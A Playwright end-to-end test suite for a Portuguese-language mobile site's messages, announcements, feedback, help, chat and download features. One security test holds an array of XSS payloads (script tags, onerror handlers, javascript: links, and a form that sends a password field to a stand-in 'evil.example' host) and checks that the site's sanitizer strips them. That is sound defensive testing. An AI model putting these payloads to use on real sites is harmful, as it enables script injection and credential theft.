// Messages, announcements, help, feedback, chat and downloads in a phone-sized Chromium.
// Tests that change site content start their own server, so other suites never see it.
import type { Browser, Page } from '@playwright/test';
import { saveCaptcha } from '../../server/db/accounts.ts';
import { sendInbox } from '../../server/db/messages.ts';
import { expect, logIn, startSite, test, type Site } from './fixtures.ts';
import { watchPage } from './settled.ts';
import { SUPPORT_SITE } from '../setup/support-config.ts';

// Links, customer service and the platform chat, which the shipped site config leaves empty.
test.use({ siteOverrides: SUPPORT_SITE });

const PHONE = { viewport: { width: 360, height: 740 }, isMobile: true, hasTouch: true, locale: 'pt-BR' };

async function ownSite(browser: Browser, overrides: Record<string, unknown> = {}, ctx: Record<string, unknown> = {}) {
  const site = await startSite({ ...SUPPORT_SITE, ...overrides });
  const context = await browser.newContext({ ...PHONE, baseURL: site.url, ...ctx });
  const page = await context.newPage();
  const errors: string[] = [];
  page.on('pageerror', (e) => errors.push(e.message));
  return {
    site,
    page,
    errors,
    close: async () => {
      await context.close();
      await site.close();
    },
  };
}

let nextId = 1000;
/** An announcement in both languages; returns its id. */
function announce(
  site: Site,
  o: { type: 'PL' | 'PU' | 'A'; execution: 'A' | 'B' | 'F'; title: string; html: string; promotionType?: string },
): number {
  const db = site.server.db!;
  const id = ++nextId;
  db.prepare(
    'INSERT INTO announcements (id, content_type, execution, start_date, promotion_type, sort) VALUES (?, ?, ?, ?, ?, ?)',
  ).run(id, o.type, o.execution, new Date().toISOString(), o.promotionType ?? '', id);
  const text = db.prepare(
    'INSERT INTO announcement_texts (announcement_id, language, title, content_html) VALUES (?, ?, ?, ?)',
  );
  text.run(id, 'pt', o.title, o.html);
  text.run(id, 'en', o.title, o.html);
  return id;
}

const popup = (page: Page) => page.getByRole('dialog', { name: 'Anúncios' });
/** The popup list has been answered and the popup had its chance to show (its chunk, if any, loaded and drawn). */
async function popupSettled(page: Page, path = '/m/home') {
  const watch = await watchPage(page);
  const answered = page.waitForResponse((r) => r.url().includes('/wps/announcement/popular'));
  await page.goto(path);
  await answered;
  await watch.settled();
}

test('SPEC §4 popup: shown once per audience, again when the server list changes', async ({ browser }) => {
  const s = await ownSite(browser);
  try {
    const { page } = s;
    // Visitor (audience B): the seeded visitor pop-up.
    await popupSettled(page);
    await expect(popup(page)).toBeVisible();
    await expect(popup(page).getByRole('button', { name: 'Baixe o aplicativo' })).toBeVisible();
    await popup(page).getByRole('button', { name: 'Fechar' }).click();
    await expect(popup(page)).toHaveCount(0);
    const stored = await page.evaluate(() => JSON.parse(localStorage.getItem('ANNOUNT') ?? 'null'));
    expect(stored.B.show).toBe(false);
    await popupSettled(page);
    await expect(popup(page), 'the same list stays closed').toHaveCount(0);
    // The server's list changes: shown again, with the new item.
    announce(s.site, { type: 'PU', execution: 'B', title: 'Torneio relâmpago', html: '<p>Hoje às 20h.</p>' });
    await popupSettled(page);
    await expect(popup(page)).toBeVisible();
    await expect(popup(page).getByRole('button', { name: 'Torneio relâmpago' })).toBeVisible();
    await page.keyboard.press('Escape');
    await expect(popup(page)).toHaveCount(0);
    // Logged in (audience A): its own list and its own memory; visitor items do not show.
    announce(s.site, {
      type: 'PU',
      execution: 'A',
      title: 'Só para membros',
      html: '<p>Bônus de recarga.</p>',
      promotionType: 'DEPOSIT',
    });
    await logIn(page, s.site);
    await popupSettled(page);
    await expect(popup(page)).toBeVisible();
    await expect(popup(page).getByRole('button', { name: 'Só para membros' })).toBeVisible();
    await expect(popup(page).getByRole('button', { name: 'Torneio relâmpago' })).toHaveCount(0);
    // Its go-to action opens the reward centre (and closes the popup for good).
    await popup(page).getByRole('button', { name: 'Ir para a central de recompensas' }).click();
    await expect(page).toHaveURL(/\/m\/rewardCenter$/);
    await popupSettled(page);
    await expect(popup(page)).toHaveCount(0);
    expect(s.errors).toEqual([]);
  } finally {
    await s.close();
  }
});

test('SPEC §4 popup: first-time login also shows execution F items; pixel sizes become rem', async ({ browser }) => {
  const s = await ownSite(browser);
  try {
    const { page } = s;
    await logIn(page, s.site);
    await page.addInitScript(() => {
      const info = JSON.parse(localStorage.getItem('MC_SESSION_INFO')!);
      localStorage.setItem('MC_SESSION_INFO', JSON.stringify({ ...info, firstTimeLogin: true }));
    });
    await popupSettled(page);
    await expect(popup(page).getByRole('button', { name: 'Primeiro acesso? Leia isto' })).toBeVisible();
    // Seeded content: <p style="font-size:28px">: 0.28 design rem, a 50 px design root at most.
    const size = await popup(page)
      .locator('.popup-body p')
      .first()
      .evaluate((p) => getComputedStyle(p).fontSize);
    expect(parseFloat(size)).toBeCloseTo(0.28 * Math.min(360 * 0.13333, 50), 0);
  } finally {
    await s.close();
  }
});

test('SPEC §4 mark as read: opening an inbox message updates the unread badge everywhere', async ({ page, site }) => {
  const m = await logIn(page, site);
  const first = sendInbox(site.server.db!, m.memberId, 'Depósito confirmado', '<p>R$ 50 creditados.</p>');
  sendInbox(site.server.db!, m.memberId, 'Bônus liberado', '<p>Aproveite.</p>');
  await page.goto('/m/webEmail');
  const chat = page.getByRole('navigation', { name: 'Menu principal' }).getByRole('button', { name: /Chat/ });
  await expect(chat.locator('.badge')).toHaveText('2');
  await expect(page.getByText('2 não lidas')).toBeVisible();
  await page.getByRole('button', { name: /Depósito confirmado/ }).click();
  await expect(page.getByText('R$ 50 creditados.')).toBeVisible();
  await expect(chat.locator('.badge')).toHaveText('1');
  await expect(page.getByText('1 não lida')).toBeVisible();
  const row = site.server.db!.prepare('SELECT read FROM inbox_messages WHERE id = ?').get(first) as { read: number };
  expect(row.read).toBe(1);
  await page.goto('/m/message');
  await expect(page.getByRole('button', { name: /Caixa de entrada/ }).locator('.badge')).toHaveText('1');
});

test('SPEC §2.8/§4 feedback: type, description, captcha; submitted and stored', async ({ page, site }) => {
  const m = await logIn(page, site);
  const key = `e2e-${Date.now()}`;
  saveCaptcha(site.server.db!, key, '4821', 120_000);
  let captchas = 0;
  await page.route('**/wps/system/captcha', (route) => {
    captchas++;
    return route.fulfill({
      json: { success: true, code: '0', message: 'OK', value: { key, image: 'data:image/svg+xml;base64,PHN2Zy8+' } },
    });
  });
  await page.goto('/m/feedback');
  const confirm = page.getByRole('button', { name: 'Confirmar' });
  await expect(confirm).toBeDisabled();
  await page.getByRole('button', { name: /Tipo de questão/ }).click();
  await page.getByRole('option', { name: 'Saque' }).click();
  await expect(page.getByRole('listbox')).toHaveCount(0);
  const text = 'Meu saque de R$ 80 está pendente desde ontem.';
  await page.getByLabel('Descrição (20 a 200 caracteres)').fill(text);
  await expect(page.getByText(`${text.length}/200`)).toBeVisible();
  await expect(confirm).toBeEnabled();
  await confirm.click();
  // The form kit says it under the code field itself, which takes the focus (SPEC §5: the first failed field).
  const code = page.getByRole('textbox', { name: 'Código de verificação' });
  await expect(code).toBeFocused();
  await expect(code).toHaveAccessibleDescription('Por favor, escreva o código');
  await expect(page.getByText('Por favor, escreva o código')).toBeVisible();
  await code.fill('4821');
  await confirm.click();
  await expect(page.getByRole('alertdialog', { name: 'Opinião enviada' })).toBeVisible();
  await page.getByRole('button', { name: 'OK' }).click();
  const rows = site.server
    .db!.prepare('SELECT sender, type, content FROM feedback WHERE member_id = ?')
    .all(m.memberId);
  expect(rows).toEqual([{ sender: m.userName, type: 2, content: text }]);
  // The new captcha is asked once the submit has answered, which the dialog does not wait for.
  await expect.poll(() => captchas, { message: 'a new captcha after the submit' }).toBeGreaterThanOrEqual(2);
});

test('SPEC §2.11 help: topic from ?i=, #terms anchor, a topic chosen from the menu', async ({ page }) => {
  await page.goto('/m/help?i=1');
  const panel = page.locator('.help-panel');
  const topics = page.getByRole('navigation', { name: 'Tópicos de ajuda' }).getByRole('button');
  await expect(topics.nth(1)).toHaveAttribute('aria-current', 'true');
  await expect(panel.getByRole('heading', { level: 2 })).toHaveText((await topics.nth(1).textContent())!);
  await page.goto('/m/help#terms');
  await expect(panel).toHaveAttribute('id', 'terms');
  await topics.first().click();
  await expect(page).toHaveURL(/\/m\/help\?i=0$/);
  await expect(topics.first()).toHaveAttribute('aria-current', 'true');
  await page.goto('/m/help?i=99');
  await expect(topics.first()).toHaveAttribute('aria-current', 'true');
});

test('SPEC §4 chat: navigates to the chat URL after the delay when one exists', async ({ page, site }) => {
  await logIn(page, site);
  await page.route('https://chat.example.com/**', (r) =>
    r.fulfill({ contentType: 'text/html', body: '<title>Chat</title><h1>Chat room</h1>' }),
  );
  await page.goto('/m/message');
  const started = Date.now();
  await page.getByRole('button', { name: /Chat ao vivo/ }).click();
  await page.waitForURL(/^https:\/\/chat\.example\.com\/aurora\/room\?/);
  expect(Date.now() - started).toBeGreaterThanOrEqual(450);
  expect(new URL(page.url()).searchParams.get('ticket')).toBeTruthy();
});

test('no dead end: without a chat (no vendor URL, in-app chat off) none is offered; with nothing configured the popup offers feedback and help', async ({
  browser,
}) => {
  const s = await ownSite(browser, { chat: { launchUrl: '', inApp: false }, customerService: [], links: [] });
  try {
    const { page } = s;
    await logIn(page, s.site);
    await page.route('**/wps/announcement/popular**', (r) =>
      r.fulfill({ json: { success: true, code: '0', message: 'OK', value: [] } }),
    );
    await page.goto('/m/message');
    const rows = page.getByRole('navigation', { name: 'Mensagens' });
    await expect(rows.getByRole('link', { name: 'Central de ajuda' })).toBeVisible();
    await expect(rows.getByRole('button', { name: /Chat ao vivo/ })).toHaveCount(0);
    await expect(rows.getByRole('button', { name: 'Afiliados e atendimento' })).toHaveCount(0);
    await page.getByRole('navigation', { name: 'Menu principal' }).getByRole('button', { name: /Chat/ }).click();
    const popup = page.getByRole('dialog', { name: 'Fale conosco' });
    await expect(popup.getByRole('link')).toHaveText(['Enviar opinião', 'Central de ajuda']);
    await popup.getByRole('link', { name: 'Enviar opinião' }).click();
    await expect(page).toHaveURL(/\/m\/feedback$/);
    await expect(popup).toHaveCount(0);
    expect(s.errors).toEqual([]);
  } finally {
    await s.close();
  }
});

test('SPEC §6/§8 type 4 is refused inbox and chat with the free_reject toast', async ({ page, site }) => {
  await logIn(page, site, 4);
  await page.goto('/m/message');
  await page.getByRole('button', { name: /Caixa de entrada/ }).click();
  await expect(page.getByText('Contas de teste não podem usar esta função', { exact: false })).toBeVisible();
  await expect(page).toHaveURL(/\/m\/message$/);
});

const HOSTILE = [
  '<p id="ok">Texto normal <b>negrito</b></p>',
  '<script>window.__pwned = "script"</script>',
  '<img src="x" onerror="window.__pwned = \'img\'; alert(1)">',
  '<a id="js" href="javascript:window.__pwned=\'link\'">clique</a>',
  '<a id="ext" href="https://www.gov.br/fazenda">regras</a>',
  '<iframe src="javascript:parent.__pwned=\'iframe\'"></iframe>',
  '<form action="https://evil.example/steal"><input name="pw"><button>Enviar</button></form>',
  '<svg><script>window.__pwned = "svg"</script></svg>',
  '<div onclick="window.__pwned=\'click\'" style="color:red; position:fixed; background:url(https://evil.example/t.png)">estilo</div>',
].join('');

test('Security: a hostile announcement renders harmless (no CSP to help: the sanitizer alone)', async ({ browser }) => {
  const s = await ownSite(browser, {}, { bypassCSP: true });
  try {
    const { page } = s;
    const id = announce(s.site, { type: 'PL', execution: 'B', title: 'Anúncio hostil', html: HOSTILE });
    const dialogs: string[] = [];
    page.on('dialog', (d) => {
      dialogs.push(d.message());
      void d.dismiss();
    });
    await page.route('**/wps/announcement/popular**', (r) =>
      r.fulfill({ json: { success: true, code: '0', message: 'OK', value: [] } }),
    );
    const list = (await (await page.request.get(`${s.site.url}/wps/announcement/notices?language=pt`)).json())
      .value as Array<{ id: number }>;
    await page.goto(`/m/notice?${list.findIndex((a) => a.id === id)}`);
    const body = page.locator(`#notice-${id}`);
    await expect(body.locator('#user-content-ok')).toHaveText('Texto normal negrito');
    await expect(body.locator('script, iframe, form, input, button, svg')).toHaveCount(0);
    await expect(body.locator('[onerror], [onclick]')).toHaveCount(0);
    await expect(body.locator('img')).toHaveCount(1);
    await expect(body.locator('#user-content-js')).not.toHaveAttribute('href', /./);
    await expect(body.locator('#user-content-ext')).toHaveAttribute('target', '_blank');
    await expect(body.locator('#user-content-ext')).toHaveAttribute('rel', 'noopener noreferrer');
    const div = body.getByText('estilo');
    expect(
      await div.evaluate((d) => [
        getComputedStyle(d).color,
        getComputedStyle(d).position,
        getComputedStyle(d).backgroundImage,
      ]),
    ).toEqual(['rgb(255, 0, 0)', 'static', 'none']);
    await body.locator('#user-content-js').click();
    await div.click();
    await page.waitForTimeout(300);
    expect(await page.evaluate(() => (window as unknown as { __pwned?: string }).__pwned)).toBeUndefined();
    expect(dialogs).toEqual([]);
    await expect(page).toHaveURL(/\/m\/notice/);
    expect(s.errors).toEqual([]);
  } finally {
    await s.close();
  }
});

const ANDROID =
  'Mozilla/5.0 (Linux; Android 10; K) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Mobile Safari/537.36';
const IPHONE =
  'Mozilla/5.0 (iPhone; CPU iPhone OS 17_1_2 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.1 Mobile/15E148 Safari/604.1';

for (const [device, ua, expected] of [
  ['Android', ANDROID, ['App para Android']],
  ['iPhone Safari', IPHONE, ['Adicionar à tela inicial', 'Instalação rápida no iOS (perfil)', 'App para iOS']],
] as const) {
  test(`SPEC §2.13 download modal on ${device}: its options, mask and close`, async ({ browser, site }) => {
    const context = await browser.newContext({ ...PHONE, userAgent: ua, baseURL: site.url });
    const page = await context.newPage();
    try {
      await page.route('**/wps/announcement/popular**', (r) =>
        r.fulfill({ json: { success: true, code: '0', message: 'OK', value: [] } }),
      );
      await page.goto('/m/home');
      const bar = page.getByRole('complementary', { name: 'Baixar o app' });
      await bar.getByRole('button', { name: 'Baixar' }).click();
      const modal = page.getByRole('dialog', { name: 'Baixar o app' });
      await expect(modal.locator('.dl-option')).toHaveText([...expected]);
      await modal.getByRole('button', { name: 'Fechar' }).click();
      await expect(modal).toHaveCount(0);
      await bar.getByRole('button', { name: 'Baixar' }).click();
      await page.waitForTimeout(350);
      await page.getByTestId('download-mask').click({ position: { x: 10, y: 10 } });
      await expect(modal).toHaveCount(0);
      if (device === 'iPhone Safari') {
        await bar.getByRole('button', { name: 'Baixar' }).click();
        await modal.getByRole('button', { name: 'Adicionar à tela inicial' }).click();
        await expect(modal).toHaveCount(0);
        await expect(page.getByRole('dialog', { name: 'Adicionar à tela inicial' })).toContainText('Compartilhar');
        await page.getByRole('button', { name: 'Fechar' }).click();
        await expect(page.getByRole('dialog')).toHaveCount(0);
      }
      // Closing the bar is remembered.
      await bar.getByRole('button', { name: 'Ocultar a barra de download' }).click();
      await expect(bar).toHaveCount(0);
      await page.reload();
      await expect(page.getByRole('heading', { level: 2 }).first()).toBeVisible();
      await expect(bar).toHaveCount(0);
    } finally {
      await context.close();
    }
  });
}

test('SPEC §2.10 message centre rows and announcements without a session', async ({ page }) => {
  await page.goto('/m/message');
  const links = ['Telegram', 'Anúncios', 'Enviar opinião', 'Central de ajuda'];
  for (const name of [...links, 'Caixa de entrada', 'Chat ao vivo', 'Afiliados e atendimento']) {
    await expect(
      page.getByRole('navigation', { name: 'Mensagens' }).getByRole(links.includes(name) ? 'link' : 'button', { name }),
    ).toBeVisible();
  }
  await page.getByRole('link', { name: 'Anúncios' }).click();
  await expect(page).toHaveURL(/\/m\/notice$/);
  await expect(page.getByRole('button', { name: /Bem-vindo à Aurora/ })).toBeVisible();
  await page.goto('/m/message');
  await page.getByRole('button', { name: 'Caixa de entrada' }).click();
  await expect(page).toHaveURL(/\/m\/login/);
});

test('SPEC §2.12/§3 chat popup: customer service links the decrypted type 3 path; in-app chat sends a visitor to log in', async ({
  page,
}) => {
  await page.goto('/m/message');
  const chatItem = page.getByRole('navigation', { name: 'Menu principal' }).getByRole('button', { name: /Chat/ });
  await chatItem.click();
  const popup = page.getByRole('dialog', { name: 'Fale conosco' });
  // Named as the message centre names the same places.
  await expect(popup.getByRole('link', { name: 'Afiliados e atendimento' })).toHaveAttribute(
    'href',
    'https://chat.example.com/aurora',
  );
  await expect(popup.getByRole('link', { name: 'WhatsApp' })).toHaveAttribute('href', 'https://wa.me/5511999999999');
  await expect(popup.getByRole('link', { name: 'Telegram' })).toHaveAttribute('rel', 'noopener noreferrer');
  await expect(popup.getByRole('link', { name: 'Enviar opinião' })).toBeVisible();
  await expect(popup.getByRole('link', { name: 'Central de ajuda' })).toBeVisible();
  // SPEC §2.12: the chat item toggles the popup.
  await chatItem.click();
  await expect(popup).toHaveCount(0);
  await chatItem.click();
  await popup.getByRole('button', { name: 'Chat ao vivo' }).click();
  await expect(page).toHaveURL(/\/m\/login/);
});

test('SPEC §4 agent contract prompts on home: one per pending request, Cancel and Go', async ({ page, site }) => {
  const agent = await logIn(page, site, 1);
  const insert = site.server.db!.prepare(
    "INSERT INTO contract_requests (member_id, kind, status, created_at) VALUES (?, ?, 'pending', ?)",
  );
  insert.run(agent.memberId, 'daily', new Date().toISOString());
  insert.run(agent.memberId, 'hourly', new Date().toISOString());
  await page.goto('/m/home');
  const daily = page.getByRole('alertdialog', { name: 'Contrato de salário diário' });
  // The prompts come with home's after-paint extras (their chunk, then the call): on a loaded
  // CI machine that took more than the default 5 s, so they get the 15 s the footer tests allow.
  await expect(daily).toBeVisible({ timeout: 15_000 });
  // By keyboard: home is wider than 360 px while the shell header overflows (see report), which throws pointer hit-testing off.
  await daily.getByRole('button', { name: 'Cancelar' }).press('Enter');
  const hourly = page.getByRole('alertdialog', { name: 'Contrato de salário por hora' });
  await expect(hourly).toBeVisible();
  await hourly.getByRole('button', { name: 'Ir' }).press('Enter');
  await expect(page).toHaveURL(/\/m\/member\/agent\/getHourContract$/);
});

test('SPEC §4 agent contract prompts: never for a plain trial account (type 4)', async ({ page, site }) => {
  await logIn(page, site, 4);
  const asked: string[] = [];
  page.on('request', (r) => {
    if (r.url().includes('/wps/agent/contract')) asked.push(r.url());
  });
  await page.goto('/m/home');
  await expect(page.getByRole('navigation', { name: 'Menu principal' })).toBeVisible();
  await page.waitForTimeout(800);
  expect(asked).toEqual([]);
  await expect(page.getByRole('alertdialog')).toHaveCount(0);
});
